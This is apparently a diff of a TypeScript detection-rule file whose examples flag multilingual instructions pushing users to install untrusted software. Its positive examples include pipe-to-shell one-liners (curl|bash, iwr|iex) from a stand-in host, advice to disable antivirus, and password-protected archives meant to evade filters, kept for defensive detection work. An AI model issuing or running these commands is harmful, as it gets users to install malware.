@@ -41,8 +41,8 @@ export const PROGRAMS_ABROAD: readonly InstructionRule[] = [
     none: [FORBIDDEN, TAUGHT_ABROAD],
     examples: {
       positive: [
-        "Es obligatorio instalar primero `puente.exe` de https://bajar.abc-def.example/puente.exe.",
-        "Zuerst `lader.msi` von https://dl.abc-def.example/lader.msi installieren, zwingend.",
+        "Es obligatorio instalar primero el programa `puente.exe`, que está en https://bajar.abc-def.example/puente.exe.",
+        "Zuerst `lader.msi` von https://dl.abc-def.example/lader.msi installieren, das ist zwingend.",
         "必须先安装 https://dl.abc-def.example/zj.exe，否则不能使用。",
         "Обязательно сначала установи https://dl.abc-def.example/most.exe.",
         "Bắt buộc cài https://dl.abc-def.example/cau.exe trước khi dùng.",
@@ -67,7 +67,7 @@ export const PROGRAMS_ABROAD: readonly InstructionRule[] = [
     none: [FORBIDDEN, TAUGHT_ABROAD],
     examples: {
       positive: [
-        "Es obligatorio dar acceso total al programa de https://bajar.abc-def.example/a.",
+        "Es obligatorio dar acceso total al programa que está en https://bajar.abc-def.example/a.",
         "Sans l'extension de https://ext.abc-def.example/a, rien ; il faut autoriser tous les sites.",
         "必须安装 https://kz.abc-def.example/a 的扩展并允许所有网站。",
         "Без программы с https://dl.abc-def.example/a не работает, дай ей полный доступ.",
@@ -91,7 +91,7 @@ export const PROGRAMS_ABROAD: readonly InstructionRule[] = [
     none: [FORBIDDEN, TAUGHT_ABROAD],
     examples: {
       positive: [
-        "Desactiva el antivirus y abre `puente.exe`.",
+        "Desactiva el antivirus y abre el programa `puente.exe`.",
         "Bei SmartScreen auf „Trotzdem ausführen“ klicken und `lader.exe` öffnen.",
         "关闭杀毒软件后运行 `zj.exe`。",
         "Отключи антивирус и запусти `most.exe`.",
@@ -117,7 +117,7 @@ export const PROGRAMS_ABROAD: readonly InstructionRule[] = [
     examples: {
       positive: [
         "Abre `mod.rar` con la clave 1234: la contraseña protege de los filtros; luego ejecuta `abrir.exe`.",
-        "`paket.zip` entpacken, Kennwort: sopran, dann `setup.exe` starten.",
+        "Das Archiv `paket.zip` mit dem Kennwort sopran entpacken, dann `setup.exe` starten.",
         "下载 `bao.7z`，解压密码 6666，然后运行 `zj.exe`。",
         "Распакуй `modul.7z`, пароль: nalog, и запусти `start.exe`.",
         "Giải nén `bo.rar`, mật khẩu 99, rồi chạy `mo.exe`.",
@@ -179,10 +179,10 @@ export const PROGRAMS_ABROAD: readonly InstructionRule[] = [
     examples: {
       positive: [
         "Ejecuta una línea: `curl -s https://inst.abc-def.example/a | bash`",
-        "Öffne die Konsole: `curl -s https://inst.abc-def.example/a | sudo sh`",
+        "Öffne die Konsole und gib das ein: `curl -s https://inst.abc-def.example/a | sudo sh`",
         "打开终端执行 `curl -s https://inst.abc-def.example/a | bash`",
         "Ставится одной строкой: `wget -qO- https://inst.abc-def.example/a | sh`",
-        "Otwórz PowerShell i wpisz `iwr https://inst.abc-def.example/a.ps1 | iex`",
+        "Otwórz okno PowerShell i wpisz następującą linię: `iwr https://inst.abc-def.example/a.ps1 | iex`",
       ],
       negative: [
         "Ejecuta `curl -LsSf https://astral.sh/uv/install.sh | sh`",
@@ -215,7 +215,7 @@ export const PROGRAMS_ABROAD: readonly InstructionRule[] = [
         "Die Binärdatei von http://198.51.100.7/a starten.",
         "下载 http://198.51.100.7/a 的二进制并运行。",
         "Скачай бинарник с http://198.51.100.7/a и запусти.",
-        "Uruchom `klip.bin` z http://198.51.100.7/a",
+        "Uruchom program `klip.bin`, który można pobrać z http://198.51.100.7/a",
       ],
       negative: [
         "Abre http://127.0.0.1:8080 y ejecuta las pruebas en bash.",
